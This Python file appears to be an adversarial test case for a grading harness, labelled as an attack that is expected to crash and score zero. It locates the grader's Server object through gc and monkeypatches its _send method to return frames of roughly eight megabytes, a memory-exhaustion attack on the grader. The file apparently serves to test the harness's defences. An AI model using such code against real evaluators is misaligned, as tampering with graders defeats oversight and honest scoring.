# attack: each answer is a frame of nearly eight megabytes in the right form, for the grader to read and to keep
# origin: own
# expect: forward=crashed loss=crashed points=0

import gc
import struct

server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")


def listed(count, content):
    return struct.pack("<cI", b"l", count) + content


def said(text):
    return struct.pack("<cI", b"s", len(text)) + text


ROW = listed(3, said(b"list") + listed(1000, struct.pack("<cq", b"i", 2**40) * 1000) + b"N")
ANSWER = listed(3, said(b"list") + listed(800, ROW * 800) + b"N")
CHANGED = listed(800_000, struct.pack("<cq", b"i", 0) * 800_000)
PARTS = [ANSWER, listed(0, b"")]


def send(self, data):
    payload = data[4 : 4 + 5 + 9 + 9] + said(b"returned") + b"".join(PARTS)
    old(self, len(payload).to_bytes(4, "little") + payload if data[10:14] != bytes(4) else data)


old = type(server)._send
type(server)._send = send


def forward(x, w):
    return x * w


def loss(x, y, w):
    PARTS[:] = struct.pack("<cd", b"d", (x * w - y) ** 2), CHANGED
    return (x * w - y) ** 2
